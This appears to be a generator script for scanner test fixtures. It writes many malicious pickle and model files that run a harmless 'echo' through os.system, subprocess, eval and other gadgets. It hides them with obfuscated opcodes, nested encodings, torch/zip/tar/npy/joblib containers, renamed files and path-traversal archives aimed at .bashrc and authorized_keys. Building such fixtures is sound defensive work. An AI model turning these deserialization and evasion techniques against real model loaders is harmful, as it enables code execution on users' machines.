"""Makes malicious model files of many techniques: python malicious.py OUT

Every payload would print a word, and nothing else; none of the files is ever loaded, here or in a test. Calls are put
together from opcodes, or by `__reduce__`, which pickling does not call. What is varied: what is called, how its name is
spelt, where the pickle lies, and what is broken around it.
"""

import base64, binascii, bz2, gzip, io, json, lzma, pickle, struct, sys, tarfile, zipfile, zlib
from pathlib import Path

out = Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)
WORD = "echo parapet"


def save(name, data):
    (out / name).write_bytes(data)


def text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def name(module, attribute):
    return text(module) + text(attribute) + b"\x93"


def call(module, attribute, *args):
    return name(module, attribute) + b"(" + b"".join(args) + b"tR"


def whole(body, protocol=4):
    return b"\x80" + bytes([protocol]) + body + b"."


SYSTEM = call("os", "system", text(WORD))
EVIL = whole(SYSTEM)

# What is called.
gadgets = [
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("os", "execvp"), ("os", "spawnlp"), ("posix", "posix_spawn"),
    ("subprocess", "run"), ("subprocess", "Popen"), ("subprocess", "getoutput"), ("commands", "getoutput"), ("pty", "spawn"), ("platform", "popen"),
    ("builtins", "eval"), ("builtins", "exec"), ("__builtin__", "execfile"), ("builtins", "compile"), ("builtins", "__import__"), ("builtins", "open"), ("builtins", "breakpoint"),
    ("runpy", "run_path"), ("runpy", "_run_code"), ("code", "interact"), ("pdb", "run"), ("bdb", "Bdb.run"), ("timeit", "timeit"), ("cProfile", "run"), ("profile", "Profile.runctx"), ("trace", "Trace.run"), ("doctest", "debug_script"), ("test.support.script_helper", "assert_python_ok"),
    ("importlib", "import_module"), ("importlib.util", "spec_from_file_location"), ("pkgutil", "resolve_name"), ("zipimport", "zipimporter"), ("imp", "load_source"),
    ("sys", "setprofile"), ("ctypes", "CDLL"), ("marshal", "loads"), ("inspect", "getattr_static"), ("gc", "get_objects"),
    ("socket", "create_connection"), ("urllib.request", "urlopen"), ("requests", "get"), ("requests.api", "post"), ("httpx", "get"), ("smtplib", "SMTP"), ("webbrowser", "open"), ("http.client", "HTTPSConnection"), ("aiohttp", "request"), ("ftplib", "FTP"),
    ("shutil", "rmtree"), ("shutil", "copy"), ("pathlib", "Path.write_text"), ("io", "FileIO"), ("_io", "open"), ("tempfile", "mkstemp"), ("codecs", "open"), ("fileinput", "input"), ("linecache", "getlines"), ("distutils.file_util", "write_file"), ("sqlite3", "connect"),
    ("pickle", "loads"), ("_pickle", "load"), ("dill", "loads"), ("cloudpickle", "loads"), ("joblib", "load"), ("torch", "load"), ("torch.serialization", "load"), ("numpy", "load"), ("pandas", "read_pickle"), ("shelve", "open"), ("jsonpickle", "decode"), ("keras.models", "load_model"), ("yaml", "unsafe_load"),
    ("torch.hub", "load"), ("torch.utils.cpp_extension", "load_inline"), ("torch.utils.collect_env", "run"), ("torch.utils.bottleneck.__main__", "run_autograd_prof"), ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch._inductor.codecache", "compile_file"), ("torch._dynamo.guards", "GuardBuilder.get"), ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), ("torch.distributed.rpc.api", "rpc_sync"),
    ("numpy.testing._private.utils", "runstring"), ("numpy.f2py.crackfortran", "myeval"), ("numpy.f2py.diagnose", "run_command"), ("numpy.distutils.exec_command", "exec_command"), ("pandas.core.computation.eval", "eval"), ("pandas", "eval"), ("sympy", "sympify"), ("IPython", "start_ipython"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"), ("idlelib.autocomplete", "AutoComplete.get_entity"), ("lib2to3.pgen2.grammar", "Grammar.loadgrammar"), ("ensurepip", "_run_pip"), ("pip", "main"), ("pip._internal", "main"), ("setuptools", "setup"), ("cgitb", "lookup"), ("pydoc", "pipepager"), ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("multiprocessing.util", "spawnv_passfds"), ("concurrent.futures", "ProcessPoolExecutor"), ("threading", "Thread"), ("signal", "signal"), ("atexit", "register"), ("logging.config", "dictConfig"), ("functools", "reduce"), ("operator", "methodcaller"), ("operator", "attrgetter"), ("types", "CodeType"), ("nltk", "download"), ("sklearn.datasets", "fetch_openml"), ("transformers", "pipeline"), ("_aix_support", "_read_cmd_output"), ("_osx_support", "_read_output"), ("_pyrepl.pager", "pipe_pager"), ("venv", "create"), ("antigravity", "fly"),
]
for index, (module, attribute) in enumerate(gadgets):
    save(f"call-{index:03}-{module}.{attribute}.pkl", whole(call(module, attribute, text(WORD))))
    if index % 3 == 0:
        save(f"hidden-{index:03}.pkl", whole(b"}" + text("weights") + b"](G" + bytes(8) + b"e" + b"s" + call(module, attribute, text(WORD)) + b"0"))

# How it is spelt, in each protocol.
class Evil:
    def __reduce__(self):
        import os
        return os.system, (WORD,)

for protocol in range(6):
    save(f"reduce-{protocol}.pkl", pickle.dumps({"w": [1.0, 2.0], "x": Evil()}, protocol))
spelt = {
    "global": b"cos\nsystem\n(S'" + WORD.encode() + b"'\ntR.",
    "inst": b"(S'" + WORD.encode() + b"'\nios\nsystem\n.",
    "obj": b"(cos\nsystem\nS'" + WORD.encode() + b"'\no.",
    "escaped": b"S'\\x6f\\x73'\nV\\u0073ystem\n\x93S'" + WORD.encode() + b"'\n\x85R.",
    "binstring": b"\x80\x02U\x02osU\x06system\x93U\x04echo\x85R.",
    "memo": whole(text("system") + b"\x940" + text("os") + b"\x940h\x01h\x00\x93" + text(WORD) + b"\x85R"),
    "memo-far": whole(text("system") + b"r" + struct.pack("<I", 70000) + b"0" + text("os") + b"j" + struct.pack("<I", 70000) + b"\x93" + text(WORD) + b"\x85R"),
    "put-get": b"\x80\x04" + text("os") + b"p9\n0" + text("system") + b"p8\n0g9\ng8\n\x93" + text(WORD) + b"\x85R.",
    "dup": whole(name("os", "system") + b"20" + text(WORD) + b"\x85R"),
    "newobj": whole(name("subprocess", "Popen") + text(WORD) + b"\x85\x81"),
    "newobj-ex": whole(name("subprocess", "Popen") + text(WORD) + b"\x85}\x92"),
    "dotted": whole(call("os", "path.os.system", text(WORD))),
    "getattr": whole(call("builtins", "getattr", call("importlib", "import_module", text("os")), text("system")) + text(WORD) + b"\x85R"),
    "getattr-dict": whole(call("builtins", "getattr", name("collections", "OrderedDict"), text("__init__")) + b")R"),
    "subclasses": whole(call("builtins", "getattr", name("builtins", "object"), text("__subclasses__")) + b")R"),
    "partial": whole(call("functools", "partial", name("os", "system")) + text(WORD) + b"\x85R"),
    "map": whole(call("builtins", "list", call("builtins", "map", name("os", "system"), b"](" + text(WORD) + b"e"))),
    "reconstructor": whole(call("copyreg", "_reconstructor", name("subprocess", "Popen"), name("builtins", "object"), b"N")),
    "setstate": whole(name("collections", "Counter") + b")\x81}" + text("__setstate__") + name("os", "system") + b"sb" + text(WORD) + b"b"),
    "build-class": whole(name("transformers", "PreTrainedModel") + b"N}" + text("forward") + name("os", "system") + b"s\x86b"),
    "ufunc": whole(call("numpy.core", "_ufunc_reconstruct", text("os"), text("system")) + text(WORD) + b"\x85R"),
    "rebuild-type": whole(call("torch._tensor", "_rebuild_from_type_v2", name("os", "system"), b"N", text(WORD) + b"\x85", b"N")),
    "computed": whole(call("builtins", "str", b"C\x02os", text("utf8")) + text("system") + b"\x93" + text(WORD) + b"\x85R"),
    "joined": whole(text("os") + call("builtins", "getattr", text(""), text("join")) + b"](" + text("sys") + text("tem") + b"e\x85R\x93" + text(WORD) + b"\x85R"),
    "python2-map": b"\x80\x02c__builtin__\nmap\n(cos\nsystem\n](S'" + WORD.encode() + b"'\netR.",
    "frames": b"\x80\x04\x95" + struct.pack("<Q", len(SYSTEM) + 1) + SYSTEM + b".",
    "no-proto": SYSTEM + b".",
    "extension": whole(call("copyreg", "add_extension", text("os"), text("system"), b"K\x07") + b"0\x82\x07" + text(WORD) + b"\x85R"),
    "popped": whole(SYSTEM + b"0}" + text("state_dict") + b"}s"),
    "main": whole(call("__main__", "os.system", text(WORD))),
    "setitem-namespace": whole(name("builtins", "__dict__") + text("len") + name("os", "system") + b"s"),
    "append-attribute": whole(name("torch", "hub.load") + b"(Ne"),
    "load-from-bytes": whole(call("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(EVIL)) + EVIL)),
}
for key, data in spelt.items():
    save(f"spelt-{key}.pkl", data)

# What is broken around it.
harmless = pickle.dumps({"weights": [0.1] * 20, "name": "model"})
broken = {
    "no-stop": b"\x80\x04" + SYSTEM, "bad-opcode": b"\x80\x04" + SYSTEM + b"\xff.", "underflow": b"\x80\x04" + SYSTEM + b"0tttt.", "no-mark": whole(SYSTEM + b"e"), "bad-memo": whole(SYSTEM + b"h\xf0"), "cut-string": b"\x80\x04" + SYSTEM + b"X\xff\x00\x00\x00abc",
    "long-frame": b"\x80\x04" + SYSTEM + b"\x95" + struct.pack("<Q", 2**40) + b".", "short-frame": b"\x80\x04\x95" + struct.pack("<Q", 3) + SYSTEM + b".", "proto-9": b"\x80\x04" + SYSTEM + b"\x80\x09.", "after-stop": harmless + EVIL, "after-stop-junk": harmless + b"\0\0junk" + EVIL, "three": harmless + harmless + EVIL,
    "bad-utf8": b"\x80\x04" + SYSTEM + b"\x8c\x02\xff\xfe.", "bad-int": b"\x80\x02" + SYSTEM + b"Iabc\n.", "negative-length": b"\x80\x02" + SYSTEM + b"T\xff\xff\xff\xffabc.",
}
for key, data in broken.items():
    save(f"broken-{key}.pkl", data)

# Where it lies.
hide = lambda payload: whole(b"}" + text("optimizer") + payload + b"s")
binary = lambda data: b"B" + struct.pack("<I", len(data)) + data
nested = {
    "bytes": hide(binary(EVIL)), "base64": hide(text(base64.b64encode(EVIL).decode())), "hex": hide(text(binascii.hexlify(EVIL).decode())), "zlib": hide(binary(zlib.compress(EVIL))), "gzip-base64": hide(text(base64.b64encode(gzip.compress(EVIL)).decode())), "twice": hide(binary(hide(binary(EVIL)))), "bytearray": hide(b"\x96" + struct.pack("<Q", len(EVIL)) + EVIL),
}
for key, data in nested.items():
    save(f"nested-{key}.pkl", data)
for suffix in ("txt", "bin", "dat", "json", "safetensors", "onnx", "h5", "png"):
    save(f"renamed.{suffix}", EVIL)


def archive(members, method=zipfile.ZIP_STORED):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", method) as target:
        for key, value in members:
            target.writestr(key, value)
    return data.getvalue()


TORCH = [("archive/data.pkl", EVIL), ("archive/version", "3\n"), ("archive/data/0", b"\0" * 64)]
torch = archive(TORCH)
save("torch.pt", torch)
save("torch-deflated.pt", archive(TORCH, zipfile.ZIP_DEFLATED))
save("torch-second.pt", archive([("archive/data.pkl", harmless), ("archive/version", "3\n"), ("archive/extra.pkl", EVIL)]))
save("torch-constants.pt", archive([("m/data.pkl", harmless), ("m/constants.pkl", EVIL), ("m/code/__torch__.py", "")]))
save("torch-duplicate.pt", archive([("a/data.pkl", harmless), ("a/data.pkl", EVIL)]))
renamed = bytearray(torch)
renamed[torch.index(b"archive/data.pkl")] = ord("b")
save("torch-local-name.pt", bytes(renamed))
flagged = bytearray(torch)
flagged[torch.index(b"PK\x01\x02") + 8] |= 1
save("torch-encrypted-flag.pt", bytes(flagged))
checksum = bytearray(torch)
checksum[torch.index(b"PK\x01\x02") + 16] ^= 0xFF
save("torch-checksum.pt", bytes(checksum))
save("torch-prefixed.pt", b"GIF89a" + b"\0" * 50 + torch)
save("torch-appended.pt", harmless + torch)
save("torch-comment.pt", torch[:-2] + struct.pack("<H", 40) + b"x" * 40)
save("torch-behind.pt", torch + b"trailing bytes")
save("torch-in-zip.zip", archive([("inner/model.pt", torch)]))
save("torch-in-torch.zip", archive([("a.zip", archive([("b.zip", archive([("m.pt", torch)]))]))]))
save("torchscript-file.pt", archive([("m/data.pkl", harmless), ("m/constants.pkl", pickle.dumps(())), ("m/code/__torch__.py", "def forward(self, x):\n  return torch.from_file('/etc/passwd', False, 10)\n")]))
magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
save("torch-legacy.pth", magic + pickle.dumps({"little_endian": True}, 2) + EVIL + pickle.dumps([], 2))
save("torch-legacy-first.pth", magic + EVIL)
tarred = io.BytesIO()
with tarfile.open(fileobj=tarred, mode="w") as target:
    for key, value in (("sys_info", harmless), ("pickle", EVIL)):
        info = tarfile.TarInfo(key)
        info.size = len(value)
        target.addfile(info, io.BytesIO(value))
save("torch-tar.pt", tarred.getvalue())
save("bundle.tar.gz", gzip.compress(tarred.getvalue()))
escaping = io.BytesIO()
with tarfile.open(fileobj=escaping, mode="w") as target:
    info = tarfile.TarInfo("../../home/.bashrc")
    info.size = 2
    target.addfile(info, io.BytesIO(b"id"))
save("escaping.tar", escaping.getvalue())
save("escaping.zip", archive([("../../.ssh/authorized_keys", "x")]))
save("model.joblib.gz", gzip.compress(EVIL))
save("model.joblib.z", zlib.compress(EVIL))
save("model.joblib.bz2", bz2.compress(EVIL))
save("model.joblib.xz", lzma.compress(EVIL))
save("model.joblib.lzma", lzma.compress(EVIL, format=lzma.FORMAT_ALONE))


def npy(descr, body, shape="(1,)"):
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


save("object.npy", npy("'|O'", EVIL))
save("header.npy", npy("__import__('os').system('echo')", b"\0" * 8))
save("behind.npy", npy("'<f8'", b"\0" * 8 + EVIL))
save("object.npz", archive([("arr_0.npy", npy("'|O'", EVIL))]))
wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("shape") + b"K\x02\x85" + text("dtype") + call("numpy", "dtype", text("f8"), b"\x89", b"\x88") + b"ub"
save("behind-array.joblib", b"\x80\x04(" + wrapper + b"\0" * 16 + SYSTEM + b"t.")
objects = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("shape") + b"K\x01\x85" + text("dtype") + call("numpy", "dtype", text("O8"), b"\x89", b"\x88") + b"ub"
save("in-array.joblib", b"\x80\x04(" + objects + EVIL + b"Nt.")
print(json.dumps({"made": len(list(out.iterdir())), "python": sys.version.split()[0]}))
